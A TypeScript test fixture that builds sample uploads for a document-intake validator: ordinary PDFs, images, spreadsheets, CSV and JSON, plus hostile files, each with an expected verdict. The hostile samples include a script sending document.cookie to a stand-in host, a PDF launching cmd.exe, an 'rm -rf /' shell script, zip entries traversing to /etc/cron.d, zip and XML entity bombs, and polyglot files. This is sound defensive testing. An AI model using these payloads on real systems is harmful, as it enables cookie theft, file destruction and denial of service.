/** Files of every accepted kind, and hostile ones, as clients could send them. */
import { deflateSync } from 'node:zlib'
import type { FileKind, UploadProblem } from '@anupalan/server/contract'
import sharp from 'sharp'
import { smallPdf } from './hostile-files.ts'
import { writeDocx, writeZip } from './zip.ts'
import type { Part } from './zip.ts'

export interface DocumentFile {
  readonly what: string
  readonly name: string
  readonly make: () => Buffer | Promise<Buffer>
  readonly expected:
    UploadProblem | { readonly kind: FileKind; readonly isLocked?: true; readonly hasActiveContent?: true }
}

const latin1 = (text: string) => Buffer.from(text, 'latin1')

const picture = (width = 40, height = 30) =>
  sharp({ create: { width, height, channels: 3, background: '#9B1B30' } })

export const jpeg = () => picture().jpeg().toBuffer()
export const png = () => picture().png().toBuffer()
export const webp = () => picture().webp().toBuffer()

const box = (type: string, ...content: Buffer[]): Buffer => {
  const inside = Buffer.concat(content)
  const head = Buffer.alloc(8)
  head.writeUInt32BE(inside.length + 8)
  head.write(type, 4, 'latin1')
  return Buffer.concat([head, inside])
}

const numbers = (...values: number[]) => {
  const bytes = Buffer.alloc(values.length * 4)
  values.forEach((value, index) => bytes.writeUInt32BE(value, index * 4))
  return bytes
}

/** The boxes of a HEIC picture, without its pixels. */
export const heic = (width = 4032, height = 3024): Buffer =>
  Buffer.concat([
    box('ftyp', latin1('heic'), numbers(0), latin1('mif1heic')),
    box('meta', numbers(0), box('iprp', box('ipco', box('ispe', numbers(0, width, height))))),
    box('mdat', Buffer.alloc(1000, 7)),
  ])

const sheetMain = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml'

export const writeXlsx = (more: readonly Part[] = [], main = sheetMain, comment = ''): Buffer =>
  writeZip(
    [
      {
        name: '[Content_Types].xml',
        bytes: `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="${main}"/></Types>`,
      },
      { name: 'xl/workbook.xml', bytes: '<workbook/>' },
      {
        name: 'xl/worksheets/sheet1.xml',
        bytes: `<worksheet>${'<row><c><v>1</v></c></row>'.repeat(500)}</worksheet>`,
      },
      ...more,
    ],
    comment,
  )

/** A compound file with these streams, each in sectors of its own. */
export function compoundFile(streams: readonly (readonly [name: string, content: Buffer])[]): Buffer {
  const sector = 512
  const contents = streams.map(([, content]) =>
    Buffer.concat([content], Math.max(4096, Math.ceil(content.length / sector) * sector)),
  )
  const directorySectors = Math.ceil((streams.length + 1) / 4)
  const total = 1 + directorySectors + contents.reduce((sum, each) => sum + each.length / sector, 0)
  const table = Buffer.alloc(Math.ceil((total * 4) / sector) * sector, 0xff)
  if (table.length > sector) throw new Error('One sector of the allocation table is enough for tests.')
  const chain = (first: number, count: number) => {
    for (let index = 0; index < count; index++)
      table.writeUInt32LE(index === count - 1 ? 0xff_ff_ff_fe : first + index + 1, (first + index) * 4)
  }
  table.writeUInt32LE(0xff_ff_ff_fd, 0)
  chain(1, directorySectors)
  const directory = Buffer.alloc(directorySectors * sector)
  const entry = (index: number, name: string, type: number, first: number, bytes: number) => {
    const at = index * 128
    directory.write(name, at, 'utf16le')
    directory.writeUInt16LE(name.length * 2 + 2, at + 64)
    directory[at + 66] = type
    directory.writeUInt32LE(first, at + 116)
    directory.writeUInt32LE(bytes, at + 120)
  }
  entry(0, 'Root Entry', 5, 0xff_ff_ff_fe, 0)
  let next = 1 + directorySectors
  streams.forEach(([name], index) => {
    const content = contents[index]!
    entry(index + 1, name, 2, next, content.length)
    chain(next, content.length / sector)
    next += content.length / sector
  })
  const header = Buffer.alloc(sector, 0)
  header.set([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1])
  header.writeUInt16LE(3, 26)
  header.writeUInt16LE(9, 30)
  header.writeUInt32LE(1, 44)
  header.writeUInt32LE(1, 48)
  header.writeUInt32LE(4096, 56)
  header.writeUInt32LE(0xff_ff_ff_fe, 68)
  header.fill(0xff, 76)
  header.writeUInt32LE(0, 76)
  return Buffer.concat([header, table, directory, ...contents])
}

/** The first records of a workbook of Excel 97. */
const workbook = (isLocked = false) =>
  Buffer.concat([
    Buffer.from([0x09, 0x08, 0x10, 0x00, ...Array.from({ length: 16 }, () => 0)]),
    ...(isLocked ? [Buffer.from([0x2f, 0x00, 0x36, 0x00]), Buffer.alloc(54)] : []),
    Buffer.from([0xe1, 0x00, 0x02, 0x00, 0xb0, 0x04]),
  ])

export const xls = (isLocked = false) => compoundFile([['Workbook', workbook(isLocked)]])

const lockedPackage = () =>
  compoundFile([
    ['EncryptionInfo', Buffer.alloc(200)],
    ['EncryptedPackage', Buffer.alloc(8000, 9)],
  ])

const lockedPdf = () =>
  latin1(
    '%PDF-1.7\n1 0 obj <</Type/Catalog>> endobj\n2 0 obj <</Filter/Standard/V 4>> endobj\nxref\n0 1\n0000000000 65535 f \ntrailer <</Root 1 0 R/Encrypt 2 0 R>>\nstartxref\n83\n%%EOF\n',
  )

/** A PDF 1.5 whose trailer is a compressed stream. */
function lockedStreamPdf(): Buffer {
  const before = '%PDF-1.5\n1 0 obj <</Type/Catalog>> endobj\n'
  const xref = deflateSync(Buffer.alloc(40)).toString('latin1')
  return latin1(
    `${before}3 0 obj <</Type/XRef/Size 4/W[1 2 1]/Encrypt 2 0 R/Filter/FlateDecode/Length ${xref.length}>>stream\r\n${xref}\r\nendstream endobj\nstartxref\n${before.length}\n%%EOF`,
  )
}

function hugePng(width: number, height: number): Buffer {
  const chunk = (type: string, content: Buffer) => {
    const length = Buffer.alloc(4)
    length.writeUInt32BE(content.length)
    return Buffer.concat([length, latin1(type), content, Buffer.alloc(4)])
  }
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', Buffer.concat([numbers(width, height), Buffer.from([8, 6, 0, 0, 0])])),
    chunk('IDAT', deflateSync(Buffer.alloc(100))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

/** Changes the stated size of a JPEG. */
async function hugeJpeg(): Promise<Buffer> {
  const bytes = await jpeg()
  const frame = bytes.indexOf(Buffer.from([0xff, 0xc0]))
  bytes.writeUInt16BE(20_000, frame + 5)
  bytes.writeUInt16BE(20_000, frame + 7)
  return bytes
}

const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
const html = '<!doctype html><html><script>fetch("//elsewhere.example/"+document.cookie)</script></html>'
const zip = () => writeZip([{ name: 'inside.html', bytes: html }])

const file = (
  what: string,
  name: string,
  make: () => Buffer | Promise<Buffer>,
  expected: DocumentFile['expected'],
): DocumentFile => ({ what, name, make, expected })

const withTail = async (content: Buffer | Promise<Buffer>, tail: Buffer) =>
  Buffer.concat([await content, tail])

const relationships = (type: string, target: string) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/></Relationships>`

const megabyte = 1024 * 1024

export const documentFiles: readonly DocumentFile[] = [
  file('a PDF', 'फॉर्म 16.pdf', () => smallPdf(), { kind: 'pdf' }),
  file('a PDF with a password', '26AS.pdf', lockedPdf, { kind: 'pdf', isLocked: true }),
  file('a PDF with a password in a stream', 'e-Aadhaar.pdf', lockedStreamPdf, {
    kind: 'pdf',
    isLocked: true,
  }),
  file(
    'a PDF with a script',
    'form.pdf',
    () => smallPdf('1 0 obj <</S/JavaScript/JS(app.alert(1))>> endobj'),
    {
      kind: 'pdf',
      hasActiveContent: true,
    },
  ),
  file('a PDF of 20 MB', 'scan.pdf', () => smallPdf(`1 0 obj <<>> endobj\n%${'x'.repeat(20 * megabyte)}`), {
    kind: 'pdf',
  }),
  file(
    'a PDF with a script after 20 MB',
    'scan.pdf',
    () => smallPdf(`%${'x'.repeat(20 * megabyte)}\n1 0 obj <</S/Launch/F(cmd.exe)>> endobj`),
    { kind: 'pdf', hasActiveContent: true },
  ),
  file('a JPEG', 'photo.JPG', jpeg, { kind: 'jpeg' }),
  file(
    'a JPEG with a film of its own after it',
    'motion.jpg',
    () => withTail(jpeg(), Buffer.alloc(600_000, 3)),
    {
      kind: 'jpeg',
    },
  ),
  file('a PNG', 'scan.png', png, { kind: 'png' }),
  file('a WebP', 'scan.webp', webp, { kind: 'webp' }),
  file('a HEIC', 'IMG_1.HEIC', () => heic(), { kind: 'heic' }),
  file('a workbook', 'sales.xlsx', () => writeXlsx(), { kind: 'xlsx' }),
  file('a workbook with a password', 'sales.xlsx', lockedPackage, { kind: 'xlsx', isLocked: true }),
  file('a Word document with a password', 'deed.docx', lockedPackage, { kind: 'docx', isLocked: true }),
  file('a workbook of Excel 97', 'ledger.xls', () => xls(), { kind: 'xls' }),
  file('a workbook of Excel 97 with a password', 'ledger.xls', () => xls(true), {
    kind: 'xls',
    isLocked: true,
  }),
  file('a Word document', 'deed.docx', () => writeDocx(), { kind: 'docx' }),
  file(
    'a Word document with a workbook inside',
    'deed.docx',
    () => writeDocx([{ name: 'word/embeddings/Microsoft_Excel_Sheet.xlsx', bytes: writeXlsx() }]),
    { kind: 'docx', hasActiveContent: true },
  ),
  file(
    'a workbook that loads another',
    'sales.xlsx',
    () =>
      writeXlsx([
        {
          name: 'xl/_rels/workbook.xml.rels',
          bytes: relationships('oleObject', 'https://elsewhere.example/'),
        },
      ]),
    { kind: 'xlsx', hasActiveContent: true },
  ),
  file('a CSV', 'bank.csv', () => Buffer.from('Date,Amount\n2026-04-01,"1,000.00"\n'), { kind: 'csv' }),
  file('a CSV in UTF-16', 'bank.csv', () => Buffer.from('\uFEFFDate\tराशि\n', 'utf16le'), { kind: 'csv' }),
  file('a CSV in another encoding', 'bank.csv', () => latin1('Date,\u00a3\n1,2\n'), { kind: 'csv' }),
  file('JSON', 'GSTR-2B.json', () => Buffer.from('{"data":{"b2b":[]}}'), { kind: 'json' }),
  file('JSON of 6 MB', 'AIS.json', () => Buffer.from(`{"a":"${'x'.repeat(6 * megabyte)}"}\n`), {
    kind: 'json',
  }),
  file('text', '26AS.txt', () => Buffer.from('File Creation Date^Permanent Account Number^<b>\n'), {
    kind: 'txt',
  }),
  file('XML', 'return.xml', () => Buffer.from('<?xml version="1.0"?><ITR><!-- x --><Form>1</Form></ITR>'), {
    kind: 'xml',
  }),

  file('nothing', 'empty.pdf', () => Buffer.alloc(0), 'empty'),
  file('an SVG', 'picture.svg', () => Buffer.from(svg), 'wrongKind'),
  file('an SVG as a PNG', 'picture.png', () => Buffer.from(svg), 'wrongKind'),
  file('an SVG as XML', 'return.xml', () => Buffer.from(`<?xml version="1.0"?>${svg}`), 'wrongKind'),
  file(
    'an SVG deep in XML',
    'return.xml',
    () => Buffer.from(`<ITR>${'<a>1</a>'.repeat(20_000)}<x xmlns="http://www.w3.org/2000/svg"/></ITR>`),
    'wrongKind',
  ),
  file('a web page', 'page.html', () => Buffer.from(html), 'wrongKind'),
  file('a web page as a PDF', 'page.pdf', () => Buffer.from(html), 'wrongKind'),
  file('a web page as text', 'page.txt', () => Buffer.from(`\n\n  ${html}`), 'wrongKind'),
  file(
    'a web page as CSV, after a comment',
    'page.csv',
    () => Buffer.from(`<!-- a --> <script>1</script>`),
    'wrongKind',
  ),
  file('a web page as JSON', 'page.json', () => Buffer.from(html), 'wrongKind'),
  file(
    'a web page as an old workbook, as some banks send it',
    'bank.xls',
    () => Buffer.from('<table><tr><td>1'),
    'wrongKind',
  ),
  file(
    'XHTML as XML',
    'page.xml',
    () => Buffer.from('<a xmlns="http://www.w3.org/1999/xhtml"/>'),
    'wrongKind',
  ),
  file(
    'XML with a style sheet',
    'a.xml',
    () => Buffer.from('<?xml-stylesheet href="x.xsl"?><a/>'),
    'wrongKind',
  ),
  file(
    'XML whose entities grow without end',
    'a.xml',
    () => Buffer.from('<!DOCTYPE a [<!ENTITY b "cc"><!ENTITY d "&b;&b;">]><a>&d;</a>'),
    'bomb',
  ),
  file('JSON that ends early', 'AIS.json', () => Buffer.from('{"a":1'), 'damaged'),
  file('text with a NUL', 'a.txt', () => Buffer.from('a\0b'), 'wrongKind'),
  file(
    'text with a NUL after a megabyte',
    'a.csv',
    () => Buffer.from(`${'a,b\n'.repeat(300_000)}\0`),
    'wrongKind',
  ),
  file('a program', 'invoice.pdf', () => latin1(`MZ\u0090\0${'\0'.repeat(500)}`), 'wrongKind'),
  file('a program with two extensions', 'invoice.pdf.exe', () => latin1('MZ\u0090\0'), 'wrongKind'),
  file('a shell script', 'run.sh', () => Buffer.from('#!/bin/sh\nrm -rf /\n'), 'wrongKind'),
  file('a zip', 'files.zip', zip, 'wrongKind'),
  file('a zip as a workbook', 'files.xlsx', zip, 'wrongKind'),
  file('a PDF that is cut off', 'a.pdf', () => smallPdf().subarray(0, -20), 'damaged'),
  file('a PDF that is a zip too', 'a.pdf', () => withTail(smallPdf(), zip()), 'damaged'),
  file(
    'a PDF that is a zip too, and ends as a PDF',
    'a.pdf',
    () => {
      const end = '\nstartxref\n9\n%%EOF\n'
      return withTail(smallPdf(), writeZip([{ name: 'x.html', bytes: html }], end))
    },
    'wrongKind',
  ),
  file(
    'a PDF that begins as a web page',
    'a.pdf',
    () => latin1(`%PDF-1.7\n%<html><script>1</script>\n${smallPdf().toString('latin1').slice(9)}`),
    'wrongKind',
  ),
  file('a JPEG that is a zip too', 'a.jpg', () => withTail(jpeg(), zip()), 'wrongKind'),
  file('a PNG that is a zip too', 'a.png', () => withTail(png(), zip()), 'damaged'),
  file(
    'a JPEG that is a web page too',
    'a.jpg',
    async () => {
      const bytes = await jpeg()
      const comment = latin1('<html><script>alert(1)</script>')
      const head = Buffer.from([0xff, 0xfe, 0, comment.length + 2])
      return Buffer.concat([bytes.subarray(0, 2), head, comment, bytes.subarray(2)])
    },
    'wrongKind',
  ),
  file(
    'a JPEG that is a PDF too',
    'a.jpg',
    async () => {
      const bytes = await jpeg()
      const comment = latin1('%PDF-1.4\n')
      return Buffer.concat([
        bytes.subarray(0, 2),
        Buffer.from([0xff, 0xfe, 0, comment.length + 2]),
        comment,
        bytes.subarray(2),
      ])
    },
    'wrongKind',
  ),
  file('a JPEG that is cut off', 'a.jpg', async () => (await jpeg()).subarray(0, -40), 'damaged'),
  file('a PNG that is cut off', 'a.png', async () => (await png()).subarray(0, -4), 'damaged'),
  file('a WebP that is cut off', 'a.webp', async () => (await webp()).subarray(0, -4), 'damaged'),
  file('a HEIC that is cut off', 'a.heic', () => heic().subarray(0, -4), 'damaged'),
  file(
    'a film',
    'film.heic',
    () => Buffer.concat([box('ftyp', latin1('isom'), numbers(0)), box('mdat')]),
    'wrongKind',
  ),
  file('a PNG of 20,000 × 20,000 pixels', 'a.png', () => hugePng(20_000, 20_000), 'hugeImage'),
  file('a PNG of 19,000 × 19,000 pixels', 'a.png', () => hugePng(19_000, 19_000), 'hugeImage'),
  file('a PNG without pixels', 'a.png', () => hugePng(0, 100), 'damaged'),
  file('a JPEG of 20,000 × 20,000 pixels', 'a.jpg', hugeJpeg, 'hugeImage'),
  file('a HEIC of 20,000 × 20,000 pixels', 'a.heic', () => heic(20_000, 20_000), 'hugeImage'),
  file(
    'a workbook with macros',
    'a.xlsx',
    () => writeXlsx([{ name: 'xl/vbaProject.bin', bytes: 'x' }]),
    'macros',
  ),
  file(
    'a workbook with macros by its type',
    'a.xlsm',
    () => writeXlsx([], 'application/vnd.ms-excel.sheet.macroEnabled.main+xml'),
    'macros',
  ),
  file(
    'an old workbook with macros',
    'a.xls',
    () =>
      compoundFile([
        ['Workbook', workbook()],
        ['_VBA_PROJECT', Buffer.alloc(10)],
      ]),
    'macros',
  ),
  file(
    'an old Word document',
    'a.doc',
    () => compoundFile([['WordDocument', Buffer.alloc(10)]]),
    'wrongKind',
  ),
  file(
    'an old Word document as a workbook',
    'a.xls',
    () => compoundFile([['WordDocument', Buffer.alloc(10)]]),
    'wrongKind',
  ),
  file(
    'a compound file that refers to itself',
    'a.xls',
    () => {
      const bytes = xls()
      bytes.writeUInt32LE(1, 512 + 4)
      return bytes
    },
    'damaged',
  ),
  file('a compound file that is cut off', 'a.xls', () => xls().subarray(0, 600), 'damaged'),
  file(
    'a zip bomb',
    'a.xlsx',
    () => writeXlsx([{ name: 'xl/b.xml', bytes: Buffer.alloc(100 * megabyte) }]),
    'bomb',
  ),
  file(
    'a zip bomb that states less',
    'a.xlsx',
    () => writeXlsx([{ name: 'xl/b.xml', bytes: Buffer.alloc(30 * megabyte), claims: 1000 }]),
    'bomb',
  ),
  file(
    'a zip bomb of overlapping parts',
    'a.xlsx',
    () =>
      writeXlsx(
        Array.from({ length: 300 }, (_, index) => ({
          name: `xl/b${index}.xml`,
          bytes: 'x'.repeat(5_000) + index,
          isOverlapping: true,
        })),
      ),
    'bomb',
  ),
  file(
    'a zip of 30,000 parts',
    'a.xlsx',
    () => writeXlsx(Array.from({ length: 30_000 }, (_, index) => ({ name: `x${index}`, bytes: '' }))),
    'bomb',
  ),
  file(
    'a part that would be unpacked elsewhere',
    'a.xlsx',
    () => writeXlsx([{ name: '../../etc/cron.d/x', bytes: 'x' }]),
    'damaged',
  ),
  file(
    'a part with an absolute path',
    'a.xlsx',
    () => writeXlsx([{ name: '/etc/cron.d/x', bytes: 'x' }]),
    'damaged',
  ),
  file('a part with backslashes', 'a.xlsx', () => writeXlsx([{ name: '..\\..\\x', bytes: 'x' }]), 'damaged'),
  file('a part twice', 'a.xlsx', () => writeXlsx([{ name: 'XL/workbook.xml', bytes: 'x' }]), 'damaged'),
  file(
    'an encrypted part',
    'a.xlsx',
    () => writeXlsx([{ name: 'xl/x.xml', bytes: 'x', isEncrypted: true }]),
    'damaged',
  ),
  file(
    'a workbook with a comment',
    'a.xlsx',
    () => writeXlsx([], undefined, '<script>1</script>'),
    'damaged',
  ),
  file('a workbook that is cut off', 'a.xlsx', () => writeXlsx().subarray(0, -30), 'damaged'),
  file(
    'a template',
    'a.xltx',
    () => writeXlsx([], 'application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml'),
    'wrongKind',
  ),
]
